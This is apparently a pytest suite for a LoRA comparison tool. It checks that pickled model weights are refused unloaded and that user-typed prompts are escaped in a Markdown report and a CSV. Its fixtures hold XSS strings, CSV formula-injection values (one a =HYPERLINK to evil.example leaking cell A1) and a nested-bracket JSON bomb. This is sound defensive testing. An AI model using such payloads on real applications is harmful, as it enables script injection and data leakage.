"""compare never unpickles (pickled bases, components and LoRAs are refused before anything is loaded; a folder with
both formats loads the safetensors), and what users type (prompts, folder names) reaches report.md as text and
comparison.csv without starting a formula."""

from __future__ import annotations

import csv
import shutil
import sys
from pathlib import Path

import pytest

torch = pytest.importorskip("torch")
pytest.importorskip("diffusers")

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "train"))

from click.testing import CliRunner  # noqa: E402
from safetensors.torch import load_file  # noqa: E402
from train_helpers import tiny_model  # noqa: E402

from lora_audit.cli import main  # noqa: E402

FAST = ["--steps", "2", "--size", "64x64", "--seeds", "1", "--quiet"]


@pytest.fixture
def no_unpickling(monkeypatch):
    """Any torch.load (the pickle loader behind .bin/.ckpt/.pt) fails the test."""
    def forbidden(*a, **k):
        raise AssertionError("torch.load was called: a pickle was opened")

    monkeypatch.setattr(torch, "load", forbidden)


def _one_error(r) -> str:
    assert r.exit_code == 2, (r.output, r.exception)
    line, = r.stderr.strip().splitlines()
    assert line.startswith("error: ") and "Traceback" not in r.output
    return line


@pytest.mark.parametrize("component", ["unet", "text_encoder", "vae"])
def test_a_folder_with_pickled_weights_only_is_refused_before_loading(tmp_path, monkeypatch, component):
    base = tmp_path / "model"
    shutil.copytree(tiny_model("sd15"), base)
    part = base / component
    st, = part.glob("*.safetensors")
    pickled = part / ("pytorch_model.bin" if component == "text_encoder" else "diffusion_pytorch_model.bin")
    torch.save(load_file(st), pickled)  # the format diffusers and transformers wrote before safetensors
    st.unlink()
    import diffusers

    def no_load(*a, **k):
        raise AssertionError("the pipeline was loaded")

    monkeypatch.setattr(torch, "load", no_load)
    monkeypatch.setattr(diffusers.DiffusionPipeline, "from_pretrained", no_load)
    r = CliRunner().invoke(main, ["compare", "--base", str(base), "--prompt", "a knight", "--out",
                                  str(tmp_path / "o"), *FAST])
    line = _one_error(r)
    assert str(pickled) in line and "pickled weights only" in line and "convert" in line and "safetensors" in line
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize("suffix", [".ckpt", ".pt", ".pth", ".bin"])
def test_pickled_single_file_base_and_lora_are_refused(tmp_path, no_unpickling, suffix):
    pickle = tmp_path / f"model{suffix}"
    torch.save({"w": torch.zeros(1)}, pickle)
    r = CliRunner().invoke(main, ["compare", "--base", str(pickle), "--prompt", "a", "--out", str(tmp_path / "o"),
                                  *FAST])
    line = _one_error(r)
    assert line.startswith(f"error: {pickle}: base model is a pickle ({suffix}): convert it to .safetensors")
    r = CliRunner().invoke(main, ["compare", "--base", str(tiny_model("sd15")), "--lora", f"{pickle}@1",
                                  "--prompt", "a", "--out", str(tmp_path / "o"), *FAST])
    line = _one_error(r)
    assert line.startswith(f"error: {pickle}: LoRA is a pickle ({suffix}): convert it to .safetensors")
    assert not (tmp_path / "o").exists()


HOSTILE_PROMPTS = ["<script>alert(1)</script> a knight | with [a link](javascript:alert(1)) `code`",
                   '=HYPERLINK("http://evil.example/?"&A1,"click")', "-2+3", "@SUM(A1)"]


@pytest.mark.slow
def test_both_formats_load_safetensors_and_typed_text_stays_text(tmp_path, no_unpickling):
    base = tmp_path / "m<img src=x onerror=alert(1)>"
    shutil.copytree(tiny_model("sd15"), base)
    for st in base.glob("*/*.safetensors"):  # a pickle beside each: never the one loaded, even as a fallback
        (st.parent / st.name.replace(".safetensors", ".bin")).write_bytes(b"not a pickle: loading it would fail")
    prompts = tmp_path / "prompts.txt"
    prompts.write_text("\n".join(HOSTILE_PROMPTS) + "\n")
    out = tmp_path / "o"
    args = ["compare", "--base", str(base), "--prompts", str(prompts), "--out", str(out), *FAST]
    r = CliRunner().invoke(main, args)
    assert r.exit_code == 0, (r.output, r.exception)
    report = (out / "report.md").read_text()
    for raw in ("<script", "<img", "[a link](javascript", " `code`"):
        assert raw not in report, raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt; a knight \\| with \\[a link\\](javascript:alert(1)) \\`code\\`" \
        in report
    assert "m&lt;img src=x onerror=alert(1)&gt;" in report
    with open(out / "comparison.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["prompt"] for r in rows] == ["<script>alert(1)</script> a knight | with [a link](javascript:alert(1)) "
                                           "`code`", "'" + HOSTILE_PROMPTS[1], "'-2+3", "'@SUM(A1)"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) and not value.startswith("-"), value
    # a journal line that is a depth bomb (or any garbage) is skipped on resume: the images are reused
    with open(out / "journal.jsonl", "a") as f:
        f.write("[" * 100_000 + "\n" + '{"image": ["x"]}\n' + '{"image": "images/x.png", "seed": "1"}\n')
    r = CliRunner().invoke(main, args + ["--json"])
    assert r.exit_code == 0, (r.output, r.exception)
    assert '"resumed_images": 4' in r.stdout
